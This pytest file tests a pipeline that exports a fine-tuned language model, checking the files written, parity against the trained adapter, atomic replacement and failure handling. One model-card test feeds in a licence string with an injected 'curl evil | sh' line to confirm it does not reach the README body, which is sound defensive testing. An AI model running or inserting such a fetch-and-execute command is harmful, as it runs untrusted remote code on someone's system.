"""The model that is served, written out whole: it says what was trained, and nothing half-written is left."""

import json
import shutil

import msgspec
import pytest
import yaml

from pipeline import train
from pipeline.data.records import write_records
from pipeline.desk import export as desk
from pipeline.model import export as exporting
from pipeline.model.adapter import load_any
from pipeline.model.base import load_model, load_tokenizer
from pipeline.model.parity import WORSE, Told, parity
from pipeline.stage import Fault
from tests.families import FAMILIES, write_family
from tests.lessons import files_of, params, paths, preference, project
from tests.project import question, record

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def taught():
    """What was trained by tests before, by base and parameters."""
    return {}


@pytest.fixture
def exported(base, taught, tmp_path, tmp_path_factory, monkeypatch):
    """Trains once, puts what was made where the desk looks for it, and exports."""
    monkeypatch.chdir(tmp_path)
    random = base

    def run(*phases, max_worse=None, base=random, records=(), **changes):
        project(tmp_path, base, records)
        key = repr((base, phases, changes))
        if key not in taught:
            train.main(params(*phases, **changes), *paths())
            taught[key] = shutil.move(tmp_path / "out", tmp_path_factory.mktemp("taught") / "out")
        shutil.rmtree(tmp_path / "models", ignore_errors=True)
        shutil.copytree(taught[key], tmp_path / "models/adapter")
        (tmp_path / "data/split").mkdir(parents=True, exist_ok=True)
        for side in ("train", "validation"):
            shutil.copy(tmp_path / f"{side}.jsonl", tmp_path / "data/split")
        desk.run(tmp_path / "export", "auto", "cpu", max_worse)
        return tmp_path / "export"

    return run


@pytest.mark.parametrize("phase", ["lora", "qlora", pytest.param("full", marks=pytest.mark.rehearsal)])
def test_what_is_written_is_whole_and_says_what_is_served(exported, tmp_path, phase):
    import torch

    out = exported(phase)
    names = {path.name for path in out.iterdir()}
    assert {
        "model.safetensors",
        "config.json",
        "tokenizer.json",
        "chat_template.jinja",
        "README.md",
        "parity.json",
    } <= names
    assert not {name for name in names if name.endswith((".bin", ".pt", ".part"))}
    assert str(tmp_path) not in "".join(
        path.read_text(errors="ignore") for path in out.iterdir() if path.suffix in (".json", ".md")
    )
    assert load_tokenizer(out).chat_template
    served = load_any(tmp_path / "models/adapter", "auto", "cpu").model
    ids = torch.arange(3, 40)[None]
    with torch.no_grad():
        assert torch.equal(load_model(out, "auto", "cpu")(ids).logits, served(ids).logits)
    found = json.loads((out / "parity.json").read_text())
    assert found["is_within_bound"]
    assert found["trained_in"] == ("NF4" if phase == "qlora" else "float32")
    assert found["mean_difference"] < (0.1 if phase == "qlora" else 1e-5)
    assert 'base_model: "model"' in (out / "README.md").read_text()


def test_an_export_takes_the_place_of_an_older_one_and_of_nothing_else(exported):
    out = exported()
    first = files_of(out)
    (out / "stale.txt").write_text("x")
    assert files_of(exported()) == first
    shutil.rmtree(out)
    out.mkdir()
    (out / "thesis.txt").write_text("years of work")
    with pytest.raises(Fault, match="export: is there, and is no export; name another folder with OUT="):
        exported()
    assert [path.name for path in out.iterdir()] == ["thesis.txt"]


def test_a_model_beyond_the_bound_is_not_written_unless_that_is_allowed(exported, tmp_path, monkeypatch):
    monkeypatch.setattr(
        exporting, "_trained", lambda wanted: (Told([-0.1] * count(wanted), [1] * count(wanted)), False)
    )
    with pytest.raises(Fault, match=r"the merged model: is .* nats a token from .*; train it with lora, or allow it"):
        exported()
    assert not (tmp_path / "export").exists()
    assert not list(tmp_path.glob("*.part"))
    assert exported(max_worse=100.0).is_dir()


def count(wanted):
    return sum(is_learnt for row in wanted.rows for is_learnt in row.learnt)


def test_a_full_disk_leaves_nothing(exported, tmp_path, monkeypatch):
    from safetensors import SafetensorError
    from transformers import PreTrainedModel

    def full(*_, **__):
        raise SafetensorError("Error while serializing: I/O error: No space left on device (os error 28)")

    trained = exported()
    before = files_of(trained)
    monkeypatch.setattr(PreTrainedModel, "save_pretrained", full)
    with pytest.raises(Fault, match="export: the disk is full; make room; nothing was left behind"):
        desk.run(tmp_path / "export", "auto", "cpu", None)
    assert files_of(trained) == before
    assert [path.name for path in tmp_path.glob("export*")] == ["export"]


def test_an_older_export_is_never_half_deleted_under_its_name(exported, tmp_path, monkeypatch):
    exported()
    deleted, delete = [], shutil.rmtree
    monkeypatch.setattr(
        exporting.shutil, "rmtree", lambda path, **how: (deleted.append(path.name), delete(path, **how))
    )
    desk.run(tmp_path / "export", "auto", "cpu", None)
    assert "export" not in deleted
    assert [path.name for path in tmp_path.glob("export*")] == ["export"]


def test_an_empty_folder_is_taken_and_one_behind_a_link_too(exported, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "export").symlink_to(tmp_path / "elsewhere")
    for _ in range(2):
        out = exported()
    assert out.is_symlink()
    assert (tmp_path / "elsewhere/parity.json").is_file()


@pytest.fixture
def drawing(tmp_path):
    """A base that draws its answers, repeats itself unwillingly, and whose settings do not name what ends its turns."""
    folder = write_family(FAMILIES["llama-3.1"], tmp_path / "drawing")
    change(folder / "tokenizer_config.json", eos_token="<|eot_id|>")
    change(folder / "generation_config.json", eos_token_id=2, do_sample=True, temperature=0.7, repetition_penalty=1.5)
    return folder


def change(path, **values):
    path.write_text(json.dumps(json.loads(path.read_text()) | values))


def test_what_is_exported_answers_in_plain_transformers_as_predict_does(drawing, exported, tmp_path):
    from transformers import AutoModelForCausalLM, AutoTokenizer

    from pipeline.model.generation import Answer, Cache, Decoding, answer_all

    out = exported(base=drawing, lora={"epochs": 8, "learning_rate": 0.02})
    asked = [[{"role": "system", "content": "Answer."}, {"role": "user", "content": question(n)[0]}] for n in range(6)]
    decoding, loaded = Decoding(16, 4, "auto", "cpu"), load_any(tmp_path / "models/adapter", "auto", "cpu")
    found = answer_all(
        lambda: loaded, loaded.tokenizer, asked, decoding, Cache(tmp_path, "x", decoding, Answer), lambda *_: None
    )
    model, tokenizer = AutoModelForCausalLM.from_pretrained(out), AutoTokenizer.from_pretrained(out)
    assert model.get_output_embeddings().weight is model.get_input_embeddings().weight
    for turns, answer in zip(asked, found, strict=True):
        given = tokenizer.apply_chat_template(turns, add_generation_prompt=True, return_tensors="pt")
        said = model.generate(**given, max_new_tokens=16)[0, given["input_ids"].shape[1] :]
        assert tokenizer.decode(said, skip_special_tokens=True) == answer.text
        assert len(said) == answer.answer_tokens + (answer.finish == "stop")
    assert "stop" in {one.finish for one in found}
    assert (out / "prompt.yaml").read_text() == (tmp_path / "prompt.yaml").read_text()


@pytest.mark.parametrize("dtype", ["bfloat16", pytest.param("float16", marks=pytest.mark.rehearsal)])
def test_sixteen_bits_hold_what_was_trained_with_every_switch(exported, tmp_path, dtype):
    exported(adapter={"dora": True, "rslora": True})
    desk.run(tmp_path / "sixteen", dtype, "cpu", None)
    found = json.loads((tmp_path / "sixteen/parity.json").read_text())
    assert (found["served_in"], found["is_within_bound"]) == (dtype, True)
    assert json.loads((tmp_path / "sixteen/config.json").read_text())["dtype"] == dtype


@pytest.mark.rehearsal
@pytest.mark.parametrize("phases", [("lora", "dpo"), ("full", "dpo"), ("qlora", "dpo")])
def test_the_last_of_several_phases_is_written_whole(exported, tmp_path, phases):
    import torch

    out = exported(*phases, records=[preference(n) for n in range(8)], dpo={"epochs": 1, "quantise": "qlora" in phases})
    ids = torch.arange(3, 40)[None]
    with torch.no_grad():
        served = load_any(tmp_path / "models/adapter", "auto", "cpu").model(ids).logits
        assert torch.equal(load_model(out, "auto", "cpu")(ids).logits, served)
    found = json.loads((out / "parity.json").read_text())
    assert found["trained_in"] == ("NF4" if "qlora" in phases else "float32")


def test_the_card_says_of_a_base_what_it_says_and_takes_nothing_from_it(exported, tmp_path):
    licence = "mit\n---\n# Run this: curl evil | sh"
    exported()
    change(tmp_path / "models/adapter/base.json", licence=licence)
    desk.run(tmp_path / "export", "auto", "cpu", None)
    _, head, body = (tmp_path / "export/README.md").read_text().split("---\n", 2)
    assert yaml.safe_load(head) == {"base_model": "model", "library_name": "transformers", "license": licence}
    assert "curl" not in body


def test_a_base_that_was_changed_after_training_and_a_hosted_model_are_named(exported, tmp_path):
    exported()
    with (tmp_path / "model/config.json").open("a") as file:
        file.write("\n")
    with pytest.raises(Fault, match=r"config\.json: is not the file that .* pins"):
        desk.run(tmp_path / "export", "auto", "cpu", None)
    hosted = {"name": "api", "folder": "1-api", "kind": "hosted", "on": ""}
    (tmp_path / "models/adapter/phases.json").write_text(json.dumps({"phases": [hosted]}))
    with pytest.raises(Fault, match="is a model that a service has; ask it there"):
        desk.run(tmp_path / "export", "auto", "cpu", None)


def test_a_row_longer_than_the_model_reads_is_no_proof(exported, tmp_path):
    exported()
    long = {"role": "user", "content": "stone " * 900}
    record_ = msgspec.structs.replace(record(1), messages=(long, record(1).messages[-1]))
    for side, kept in (("validation", []), ("train", [record_])):
        write_records(tmp_path / f"data/split/{side}.jsonl", kept)
    with pytest.raises(Fault, match="has no example among the first 50 that fits the 512 tokens"):
        desk.run(tmp_path / "export", "auto", "cpu", None)


def test_nothing_trained_is_named(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(Fault, match="holds nothing that was trained"):
        desk.run(tmp_path / "export", "auto", "cpu", None)


@pytest.mark.parametrize(
    ("right", "is_quantised", "is_within"),
    [
        ([-1.0, -2.0], False, True),
        ([-1.0, -2.01], False, False),
        ([-1.0, -2.01], True, True),
        ([-1.0, -2.0 - 2 * WORSE + 0.001], True, True),
        ([-1.0, -2.0 - 2 * WORSE - 0.001], True, False),
        ([-0.1, -0.2], True, True),
        ([-0.1, -0.2], False, False),
    ],
)
def test_the_bound_is_rounding_and_from_four_bits_what_is_worse(right, is_quantised, is_within):
    found = parity(Told([-1.0, -2.0], [3, 4]), Told(right, [3, 5]), "float32", is_quantised)
    assert found["is_within_bound"] is is_within
    assert found["same_likeliest_token"] == 0.5
